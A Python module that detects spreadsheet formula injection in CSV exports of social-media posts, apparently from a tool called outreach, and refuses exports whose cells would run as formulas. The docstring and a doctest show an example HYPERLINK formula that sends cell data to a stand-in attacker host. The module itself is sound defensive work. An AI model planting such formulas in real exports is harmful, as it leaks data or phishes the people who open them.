"""Spreadsheet formula injection: no CSV cell that a spreadsheet would run leaves outreach.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return before one) as a formula, and run it when the
CSV is opened: ``=HYPERLINK("https://evil.example/?"&A1, "Sign")`` in a translation would turn
an organizer's content calendar into a phishing link or a data leak (CWE-1236).

The usual cure, prefixing the cell with ``'``, alters the post: schedulers import the
apostrophe as text and publish it. A post may also start with these characters for good
reasons (an ``@mention``, ``+1``, ``-50%``). outreach therefore **refuses** the export and
names the post, rather than publish something the organizer did not write; the organizer
starts the post differently (a word before the mention, for instance) and exports again.
Full-width forms (``＝ ＋ － ＠``), which some spreadsheets also accept, count too, as does a
trigger after leading spaces.

>>> formula_trigger("=HYPERLINK(\\"https://evil.example\\")")
'='
>>> formula_trigger("@iocmedia, stand by your charter") is not None
True
>>> formula_trigger("Love always wins. #LoveAlwaysWins") is None
True
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_TRIGGERS", "formula_problems", "formula_trigger"]

#: Characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

_NAMES = {
    "\t": "a tab",
    "\r": "a carriage return",
    "\uff1d": "“＝”",
    "\uff0b": "“＋”",
    "\uff0d": "“－”",
    "\uff20": "“＠”",
}


def formula_trigger(cell: str) -> str | None:
    """The character that would make a spreadsheet run ``cell`` as a formula, or ``None``."""
    if not cell:
        return None
    first = cell[0]
    if first in FORMULA_TRIGGERS:
        return first
    stripped = cell.lstrip(" ")
    if stripped and stripped[0] in FORMULA_TRIGGERS and stripped[0] not in "\t\r":
        return stripped[0]
    return None


def formula_problems(rows: Iterable[tuple[str, Sequence[str], Sequence[str]]]) -> list[str]:
    """One sentence per cell that a spreadsheet would run as a formula.

    ``rows`` holds ``(where, header, cells)``: ``where`` names the post (``share (es, x)``),
    ``header`` the columns' names.

    >>> formula_problems([("share (es, x)", ["date", "text"], ["2026", "=1+1"])])
    ['share (es, x): the text starts with “=”, which a spreadsheet would run as a formula; \
outreach does not alter posts: start it with a word or a letter instead']
    """
    problems: list[str] = []
    for where, header, cells in rows:
        for name, cell in zip(header, cells, strict=True):
            trigger = formula_trigger(cell)
            if trigger is None:
                continue
            shown = _NAMES.get(trigger, f"“{trigger}”")
            column = "text" if name.lower() in _TEXT_COLUMNS else f"{name} cell"
            advice = " (put a word before the mention)" if trigger in "@\uff20" else ""
            problems.append(
                f"{where}: the {column} starts with {shown}, which a spreadsheet would run as a "
                "formula; outreach does not alter posts: start it with a word or a letter "
                f"instead{advice}"
            )
    return problems


_TEXT_COLUMNS = {"text", "message_text", "message"}
